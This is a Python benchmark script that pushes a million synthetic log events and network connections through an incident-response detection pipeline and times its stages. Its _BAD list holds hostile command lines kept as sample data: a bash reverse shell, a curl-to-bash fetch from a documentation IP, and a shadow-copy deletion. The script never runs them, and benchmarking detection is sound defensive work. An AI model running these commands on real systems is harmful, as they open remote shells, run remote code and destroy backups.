"""A million events and connections of five minutes through detection, from delivered files to incidents, on two processes.

    python tests/bench/bench_events.py [seed] [events and connections, 1,000,000]

800,000 events and 200,000 connections, made here, one of 2,000 hostile, as JSON lines with every column in each. Timed, as
wall seconds from the first stage's start to the last one's end: the stages of the flow `incident_response` from `ingest` to
`correlate`, read from its DAG file, each as soon as what it needs is there, two at a time, under the slot protocol (rows are
written, hashed and read between stages, contracts judged by Great Expectations). Not timed: Airflow, imports, and the fitting of
the models, on 6,000 rows; the registry is left out.
"""

from __future__ import annotations

import json
import multiprocessing
import os
import resource
import runpy
import shutil
import sys
import time
from collections.abc import Iterator
from concurrent.futures import FIRST_COMPLETED, Future, ProcessPoolExecutor, wait
from contextlib import contextmanager
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pandas as pd

from baton.contracts import check as contracts
from baton.contracts import engine
from baton.data import typed as parsing
from baton.data.datasets import DatasetRef, read
from baton.data.partitions import safe_name
from baton.families.base import Rows
from baton.families.tabular.family import Tabular
from baton.families.tabular.selection import learner
from baton.packs.pack import find_model, load_pack
from baton.record import warehouse
from baton.settings import settings
from baton.stages.job import StageJob
from baton.stages.run import run as run_job
from baton.stages.slots import Slot, StageOutput, run_stage
from baton_packs.incident_response.detection import stages

PACK = FLOW = "incident_response"
DAG_FILE = Path(__file__).parents[2] / "dags" / f"{FLOW}.py"
LAST, PROCESSES, TARGET = "correlate", 2, 60.0
ROWS, HOSTILE = 1_000_000, 2_000
PARTITION = "2026-11-20T09:00:00"
START = pd.Timestamp(PARTITION, tz="UTC")
_COMMANDS = [
    ("/usr/bin/python3", "python3 /opt/app/job.py --shard {n}"), ("/usr/bin/git", "git fetch origin branch-{n}"),
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s unit{n}"), ("/bin/ls", "ls -la /srv/data/{n}"),
    ("/usr/bin/systemctl", "systemctl status worker-{n}"), ("C:\\Program Files\\App\\app.exe", "app.exe /task {n}"),
]  # fmt: skip
_BAD = [
    ("/bin/bash", "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1"), ("/bin/sh", "sh -c curl -s http://203.0.113.{n}/i.sh | bash"),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all {n}"),
]  # fmt: skip


def events(rng: np.random.Generator, rows: int) -> pd.DataFrame:
    """Events as collectors deliver them, times as text."""
    kind = rng.choice([3002, 1007, 4003, 4002], rows, p=[0.4, 0.3, 0.2, 0.1])
    number, host, user = rng.integers(0, 5000, rows), rng.integers(0, 300, rows), rng.integers(0, 800, rows)
    failed = rng.random(rows) < 0.03
    bad = np.zeros(rows, dtype=bool)
    bad[rng.choice(rows, rows // HOSTILE, replace=False)] = True
    seconds = np.sort(rng.random(rows) * 300)
    made: list[dict[str, Any]] = []
    for at in range(rows):
        n, what = int(number[at]), int(kind[at])
        row: dict[str, Any] = {
            "metadata_uid": f"e{at}", "time": f"2026-11-20T09:{int(seconds[at] // 60):02d}:{seconds[at] % 60:06.3f}Z",
            "class_uid": what, "activity_id": 1, "severity_id": 1, "device_hostname": f"host-{host[at]}",
            "user_name": f"user{user[at]}",
        }  # fmt: skip
        if bad[at] or what == 1007:
            program, command = (_BAD if bad[at] else _COMMANDS)[n % (3 if bad[at] else 6)]
            row |= {
                "class_uid": 1007,
                "process_name": program,
                "process_cmd_line": command.format(n=n % 250 if bad[at] else n),
            }
        elif what == 3002:
            source, said = f"10.1.{n % 250}.{host[at] % 250}", "Failed" if failed[at] else "Accepted"
            row |= {"status_id": 2 if failed[at] else 1, "service_name": "sshd", "src_endpoint_ip": source,
                    "raw_data": f"{said} password for user{user[at]} from {source} port {30000 + n} ssh2"}  # fmt: skip
        elif what == 4003:
            row |= {"query_hostname": f"node{n}.corp.example", "src_endpoint_ip": f"10.2.{n % 250}.7"}
        else:
            row |= {
                "activity_id": 3,
                "http_request_url": f"https://www.example.org/page/{n}?q={n}",
                "traffic_bytes_out": n,
            }
        made.append(row)
    columns = (
        load_pack(PACK).contract("events").columns
    )  # each key in each line, also where it is empty: the longer form
    return pd.DataFrame(made).reindex(columns=list(columns))


def connections(rng: np.random.Generator, rows: int, columns: list[str]) -> pd.DataFrame:
    """Connections with their features; hostile ones try many services and are refused."""
    attack = rng.random(rows) < 0.02
    made: dict[str, Any] = {
        "metadata_uid": [f"c{at}" for at in range(rows)],
        "time": (START + pd.to_timedelta(np.sort(rng.random(rows) * 300), unit="s")).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        "user_name": None, "class_uid": 4001, "src_endpoint_ip": [f"10.3.{n}.9" for n in rng.integers(0, 250, rows)],
        "dst_endpoint_ip": "10.4.0.1", "device_hostname": [f"host-{n}" for n in rng.integers(0, 300, rows)],
        "protocol_type": rng.choice(["tcp", "udp"], rows), "service": rng.choice(["http", "smtp", "domain_u", "private"], rows),
        "flag": np.where(attack, "REJ", "SF"), "attack": np.where(attack, rng.choice(["satan", "nmap"], rows), None),
        "is_attack": attack.astype(int),
    }  # fmt: skip
    for name in columns:
        if name.endswith("_rate"):
            made[name] = np.round(np.where(attack, rng.beta(5, 2, rows), rng.beta(1, 8, rows)), 2)
        elif name not in made:
            made[name] = rng.integers(0, 300 if name.endswith(("count", "bytes")) else 2, rows)
    return pd.DataFrame(made)


def lines(frame: pd.DataFrame) -> bytes:
    """JSON lines; an empty cell is null."""
    names = [f"{json.dumps(name)}: " for name in frame.columns]
    cells = [frame[name].convert_dtypes().astype(object).where(frame[name].notna(), None) for name in frame.columns]
    told = (zip(names, row, strict=True) for row in zip(*(one.tolist() for one in cells), strict=True))
    return "".join(f"{{{', '.join(name + json.dumps(cell) for name, cell in row)}}}\n" for row in told).encode()


class Task(NamedTuple):
    """A stage of the flow; `inputs`: name -> the stage that it comes from."""

    step: str
    options: dict[str, Any]
    inputs: dict[str, str]
    output_contract: str


class Done(NamedTuple):
    """What a stage took: wall and CPU seconds; peak memory of its process so far, in MiB."""

    ref: DatasetRef
    wall: float
    cpu: float
    memory: float


def tasks() -> dict[str, Task]:
    """The flow's stages up to `LAST`, as its DAG file has them."""
    made: dict[str, Task] = {}
    for one in runpy.run_path(str(DAG_FILE))["flow"].tasks:
        inputs = {name: given.operator.task_id for name, given in one.inputs.items()}
        made[one.task_id] = Task(one.step, dict(one.options), inputs, one.output_contract)
        if one.task_id == LAST:
            return made
    raise SystemExit(f"{DAG_FILE}: no stage {LAST}")


MODELS: dict[str, tuple[Any, Any, Any]] = {}
"""In a worker: model -> (spec, family, fitted)."""


def prepare(seed: int) -> None:
    """What a worker does before the clock runs: imports, and the models fitted on rows of their own."""
    rng = np.random.default_rng(seed)
    columns = list(load_pack(PACK).contract("connections").columns)
    MODELS["network_intrusion"] = fitted("network_intrusion", connections(rng, 6000, columns), "average_mixture")
    known, spec = events(rng, 6000), load_pack(PACK).contract("events")
    counts = stages.count_logs(parsing.parse(known.astype(object).where(known.notna(), None), spec).frame)
    MODELS["log_anomaly"] = fitted("log_anomaly", counts, "isolation_forest")
    engine.warm()


def fitted(name: str, frame: pd.DataFrame, candidate: str) -> tuple[Any, Any, Any]:
    """The pack's model, fitted without a leaderboard."""
    _, spec = find_model(name)
    maker = learner(spec.family)
    one = next(one for one in spec.candidates if one.name == candidate)
    y = frame["is_attack"].to_numpy() if "is_attack" in frame else None
    return spec, Tabular(maker), maker.fit(spec, one, Rows(frame, y), 7)


def work(name: str, task: Task, inputs: dict[str, DatasetRef]) -> Done:
    """Run a stage in a worker."""
    started, cpu = time.perf_counter(), time.process_time()
    if model := task.options.get("model"):
        ref = scored(name, model, task, inputs["data"])
    else:
        ref = run_job(
            StageJob(PACK, FLOW, name, PARTITION, task.step, inputs, task.options, output_contract=task.output_contract)
        ).ref
    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    return Done(ref, time.perf_counter() - started, time.process_time() - cpu, memory)


def scored(name: str, model: str, task: Task, data: DatasetRef) -> DatasetRef:
    """A score stage with the model that was fitted here."""
    spec, maker, own = MODELS[model]

    def compute(inputs: Any) -> StageOutput:
        frame = maker.score(spec, own, read(inputs["data"]), 0.02)
        frame.insert(1, "model", model)
        frame.insert(2, "version", 1)
        contract = load_pack(PACK).contract(task.output_contract)
        verdict = contracts.check(parsing.adopt(frame, contract, name), contract)
        assert verdict.status == "passed", verdict.aggregate_failures
        return StageOutput(frame)

    slot = Slot(FLOW, name, PARTITION)
    return run_stage(slot, compute, inputs={"data": data}, params={}, models={}, code="bench", run_id="").ref


@contextmanager
def own_home(folder: Path) -> Iterator[None]:
    """A BATON_HOME for the run, removed afterwards."""
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    before = {name: os.environ.get(name) for name in ("BATON_HOME", "AIRFLOW_HOME")}
    os.environ |= {"BATON_HOME": str(folder), "AIRFLOW_HOME": str(folder / "airflow")}
    settings.cache_clear()
    try:
        warehouse.migrate()
        yield
    finally:
        warehouse.engine().dispose()
        for name, value in before.items():
            os.environ.pop(name) if value is None else os.environ.update({name: value})
        settings.cache_clear()
        shutil.rmtree(folder, ignore_errors=True)


def deliver(seed: int, rows: int) -> None:
    """Files in the landing folder, as collectors and sensors leave them."""
    rng = np.random.default_rng(seed)
    columns = list(load_pack(PACK).contract("connections").columns)
    traffic = connections(rng, rows // 5, columns).drop(columns=["attack", "is_attack"])
    for source, frame in (("events", events(rng, rows - rows // 5)), ("connections", traffic)):
        path = settings().landing_dir / source / f"{safe_name(PARTITION)}.jsonl"
        path.parent.mkdir(parents=True)
        path.write_bytes(lines(frame))


def through(seed: int) -> tuple[float, dict[str, Done]]:
    """Wall seconds of all stages, and what each took."""
    todo, done = tasks(), dict[str, Done]()
    running: dict[Future[Done], str] = {}
    spawn = multiprocessing.get_context("spawn")
    with ProcessPoolExecutor(PROCESSES, spawn, initializer=prepare, initargs=(seed,)) as pool:
        list(pool.map(time.sleep, [5.0] * PROCESSES))  # both are there, and ready
        started = time.perf_counter()
        while todo or running:
            ready = [name for name, task in todo.items() if set(task.inputs.values()) <= done.keys()]
            for name in ready:
                task = todo.pop(name)
                given = {into: done[one].ref for into, one in task.inputs.items()}
                running[pool.submit(work, name, task, given)] = name
            for future in wait(running, return_when=FIRST_COMPLETED).done:
                done[running.pop(future)] = future.result()
        return time.perf_counter() - started, done


def run(seed: int, out: Path, rows: int = ROWS) -> list[dict[str, Any]]:
    """The time of all stages and the memory of a process; what each stage took is left in `out`."""
    with own_home(out / "events_home"):
        deliver(seed, rows)
        wall, done = through(seed)
    took = {name: {"wall": one.wall, "cpu": one.cpu, "rows": one.ref.rows} for name, one in done.items()}
    said = {"alerts": done["alerts"].ref.rows, "of_rules": done["detect"].ref.rows, "incidents": done[LAST].ref.rows}
    cpu, memory = sum(one.cpu for one in done.values()), max(one.memory for one in done.values())
    (out / "events_stages.json").write_text(json.dumps({"stages": took, **said}, indent=1), encoding="utf-8")
    shared = {
        "seed": seed,
        "rows": rows,
        "load": os.getloadavg()[0],
        "cores": os.cpu_count(),
        "cpu_seconds": cpu,
        **said,
    }
    shared |= {"larger_is_better": False, "peer": None, "peer_value": None, "ratio": None}
    return [
        {
            "name": f"{rows:,} events through detection",
            "value": wall,
            "unit": "s",
            "target": TARGET * rows / ROWS,
            **shared,
        },
        {"name": "CPU of all stages", "value": cpu, "unit": "s", "target": None, **shared},
        {"name": "peak memory of a process", "value": memory, "unit": "MiB", "target": None, **shared},
    ]


if __name__ == "__main__":
    chosen = int(sys.argv[1]) if len(sys.argv) > 1 else 20
    size = int(sys.argv[2]) if len(sys.argv) > 2 else ROWS
    sys.stdout.write(json.dumps(run(chosen, settings().home / "bench", size), indent=1) + "\n")
